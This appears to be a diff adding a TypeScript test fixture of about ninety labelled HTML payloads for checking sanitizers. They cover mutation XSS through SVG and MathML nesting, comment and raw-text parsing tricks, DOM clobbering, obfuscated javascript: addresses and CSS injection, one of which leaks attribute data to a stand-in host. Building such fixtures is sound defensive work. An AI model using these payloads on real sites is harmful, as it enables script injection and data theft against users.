@@ -1,0 +1,165 @@
+/** HTML of the kinds by which sanitizers were broken: trees that change when they are written and read again, names that hide others. */
+
+/** What it is, and the HTML. Everything runs `alert(1)` where it succeeds. */
+export const MUTATING_HTML: readonly (readonly [string, string])[] = [
+  // One namespace in another
+  ['a paragraph that ends SVG', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
+  ['a break that ends SVG', '<svg><br><style><a title="</style><img src=1 onerror=alert(1)>">'],
+  ['a font that ends SVG', '<svg><font color=red><style><a title="</style><img src=1 onerror=alert(1)>">'],
+  ['a heading that ends MathML', '<math><h1><style><a title="</style><img src=1 onerror=alert(1)>">'],
+  ['text integration of MathML', '<math><mi><style><a title="</style><img src=1 onerror=alert(1)>">'],
+  ['a glyph mark', '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">'],
+  ['a malign mark', '<math><mtext><malignmark><style><!--</style><img src=1 onerror=alert(1)>-->'],
+  [
+    'a table in MathML',
+    '<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table>',
+  ],
+  [
+    'a table in a table in MathML',
+    '<math><mtext><table><mglyph><table><style><img src onerror=alert(1)></style></table>',
+  ],
+  [
+    'a form around MathML',
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+  ],
+  [
+    'HTML in SVG in HTML',
+    '<svg><desc><svg><title><style></title><img src=1 onerror=alert(1)></style></svg></desc></svg>',
+  ],
+  [
+    'a foreign object in MathML',
+    '<math><annotation-xml encoding="text/html"><style><!--</style><img src=1 onerror=alert(1)>--></annotation-xml>',
+  ],
+  [
+    'an annotation of SVG',
+    '<math><annotation-xml encoding="image/svg+xml"><svg><foreignObject><img src=1 onerror=alert(1)>',
+  ],
+  [
+    'a title of SVG with a style',
+    '<svg><title><style><img title="</style><img src=1 onerror=alert(1)>"></title></svg>',
+  ],
+  ['a style of SVG with markup', "<svg><style>*{font-family:'<svg onload=alert(1)>';}</style></svg>"],
+  ['a script of SVG in base64', '<svg><script xlink:href=data:,alert(1)></script></svg>'],
+  ['a script of SVG with entities', '<svg><script>&#97;lert(1)</script></svg>'],
+  ['a set in SVG', '<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>'],
+  [
+    'an animation of a handler',
+    '<svg><set attributeName=onmouseover to=alert(1) /><rect width=9 height=9 /></svg>',
+  ],
+  [
+    'a handler of SVG',
+    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>alert(1)</handler></svg>',
+  ],
+  [
+    'an embedded SVG',
+    '<embed src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1) />">',
+  ],
+  ['a link of MathML', '<math href="javascript:alert(1)"><mi>x</mi></math>'],
+  [
+    'a link of MathML with a name space',
+    '<math xlink:href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink">x</math>',
+  ],
+  // Raw text and comments
+  ['a comment that ends with a bang', '<!--<img src="--!><img src=1 onerror=alert(1)>">'],
+  ['a comment that ends at once', '<!---><img src=1 onerror=alert(1)>-->'],
+  ['a comment in a style', '<style><!--</style><img src=1 onerror=alert(1)>--></style>'],
+  ['a comment in a script', '<script><!--<script></script><img src=1 onerror=alert(1)>--></script>'],
+  ['a declaration that ends early', '<!DOCTYPE "><img src=1 onerror=alert(1)>">'],
+  ['a bogus comment', '</ ><img src=1 onerror=alert(1)>'],
+  ['a question mark', '<?img src=1 ?><img src=1 onerror=alert(1)>'],
+  ['an xmp in a paragraph', '<p><xmp></p><img src=1 onerror=alert(1)></xmp>'],
+  ['a noscript in an attribute', '<noscript><a title="</noscript><img src=1 onerror=alert(1)>">'],
+  ['a noembed with an image', '<noembed><img title="</noembed><img src=1 onerror=alert(1)>"></noembed>'],
+  ['a textarea in a title', '<title><textarea></title><img src=1 onerror=alert(1)></textarea>'],
+  ['a title in a textarea', '<textarea><title></textarea><img src=1 onerror=alert(1)></title>'],
+  ['a textarea in a select', '<select><textarea></select><img src=1 onerror=alert(1)></textarea>'],
+  [
+    'an iframe with markup in its text',
+    '<iframe><img title="</iframe><img src=1 onerror=alert(1)>"></iframe>',
+  ],
+  ['a listing that is read twice', '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>'],
+  ['a preformatted text that is read twice', '<pre>\n\n&lt;img onerror=alert(1) src=x&gt;</pre>'],
+  ['a plaintext in a table', '<table><plaintext><img src=1 onerror=alert(1)>'],
+  // Trees that are repaired
+  ['a body in a table', '<table><body onload=alert(1)><tr><td>x'],
+  ['a form in a table', '<table><form><tr><td><form action=javascript:alert(1)><input type=submit>'],
+  ['an anchor in an anchor', '<a href="https://x.test/"><p><a href="javascript:alert(1)">x</a></p></a>'],
+  ['formatting over tables', '<b><table><td></b><i></table><img src=1 onerror=alert(1)></i>'],
+  ['a nobr in a nobr', '<nobr><table><tr><td><nobr><img src=1 onerror=alert(1)></nobr>'],
+  ['a frameset behind text', 'x<frameset><frame src=javascript:alert(1)></frameset>'],
+  ['a select in a table', '<table><tr><td><select><tr><td><img src=1 onerror=alert(1)></select>'],
+  ['an option with markup', '<select><option><img src=1 onerror=alert(1)></option></select>'],
+  ['a datalist', '<datalist><option value="x"><img src=1 onerror=alert(1)></datalist>'],
+  ['a template in a table', '<table><template><tr><td><img src=1 onerror=alert(1)></template></table>'],
+  ['a template in SVG', '<svg><template><img src=1 onerror=alert(1)></template></svg>'],
+  ['a caption', '<table><caption><svg><caption><img src=1 onerror=alert(1)></svg></caption></table>'],
+  ['an image element', '<image/src/onerror=alert(1)>'],
+  ['an isindex', '<isindex type=image src=1 onerror=alert(1)>'],
+  ['a keygen in a form', '<form><keygen autofocus onfocus=alert(1)></form>'],
+  ['a menu item', '<menu><menuitem onclick=alert(1)>x</menu>'],
+  // Names and attributes
+  ['an attribute with a slash', '<img src=x:alert(1) onerror=eval(src)/alt=y>'],
+  ['an attribute without quotes', '<a title=x"onmouseover=alert(1)//>y</a>'],
+  ['an attribute with an equals sign', '<a ="=x" onmouseover=alert(1)>y</a>'],
+  ['an attribute with a line feed', '<img\nsrc=x\nonerror\n=\nalert(1)>'],
+  ['an attribute with a vertical tab', '<img\u000bsrc=x\u000bonerror=alert(1)>'],
+  ['an attribute with a null character', '<img src=x on\u0000error=alert(1)\u0000>'],
+  ['an attribute of entities', '<img src=x &#111;nerror=alert(1)>'],
+  ['a name with a colon', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'],
+  ['a name of another alphabet', '<\u017fcript>alert(1)</\u017fcript>'],
+  ['a name with the Kelvin sign', '<lin\u212a rel=stylesheet href=//x.test/a.css>'],
+  [
+    'a nested form of names',
+    '<form><input name=attributes><input name=parentNode><img src=1 onerror=alert(1)></form>',
+  ],
+  [
+    'an element that hides its document',
+    '<img name=createElement><form name=body><img name=firstChild></form>',
+  ],
+  ['a customised element', '<div is=x-y onclick=alert(1)>x</div><x-y onfocus=alert(1) tabindex=1 autofocus>'],
+  ['a slot', '<slot onslotchange=alert(1)></slot>'],
+  [
+    'a namespace',
+    '<html xmlns:x="urn:schemas-microsoft-com:vml"><x:rect style="behavior:url(#default#vml)" onclick=alert(1) />',
+  ],
+  // Addresses
+  ['an address behind a line separator', "<a href='\u2028javascript:alert(1)'>x</a>"],
+  ['an address behind a byte order mark', "<a href='\ufeffjavascript:alert(1)'>x</a>"],
+  ['an address with a zero width space', "<a href='java\u200bscript:alert(1)'>x</a>"],
+  ['an address of entities of tabs', "<a href='j&Tab;a&NewLine;vascript&colon;alert&lpar;1&rpar;'>x</a>"],
+  ['an address of a feed', '<a href="feed:javascript:alert(1)">x</a>'],
+  [
+    'an address of a file system',
+    '<a href="filesystem:https://x.test/a">x</a><img src="file:///etc/passwd">',
+  ],
+  ['an address of MHTML', '<img src="mhtml:https://x.test/a!xss.html">'],
+  [
+    'an address of data in base64',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  ],
+  ['an address with a user', '<a href="https://bank.test@x.test/">x</a>'],
+  ['an address of a script in an image set', '<img srcset="javascript:alert(1)" src="vbscript:alert(1)">'],
+  [
+    'an address of a frame',
+    '<iframe src=//x.test srcdoc="&lt;script>alert(1)&lt;/script>" onload=alert(1)></iframe>',
+  ],
+  [
+    'an address of an area',
+    '<map name=x><area shape=default href=javascript:alert(1)></map><img usemap=#x src=cid:a>',
+  ],
+  [
+    'an address of a citation',
+    '<blockquote cite="javascript:alert(1)"><q cite=javascript:alert(1)>x</q></blockquote>',
+  ],
+  // CSS
+  ['a style with an escape of its name', '<p style="\\70osition:fixed;\\74op:0">x</p>'],
+  ['a style with a comment in its name', '<p style="posi/**/tion:fixed">x</p>'],
+  ['a style with a string that is open', '<p style="font-family:\'x;position:fixed">x</p>'],
+  ['a style with an end of style', '<p style="</style><img src=1 onerror=alert(1)>">x</p>'],
+  ['a style with an entity', '<p style="position&colon;fixed&semi;top&colon;0">x</p>'],
+  [
+    'a style sheet with an attribute selector',
+    '<style>a[href^=x]{background:url(//x.test/leak)}</style><a href=x>y</a>',
+  ],
+  ['a style sheet of a namespace', '<style>@namespace url(//x.test/n);@charset "utf-7"</style>'],
+];
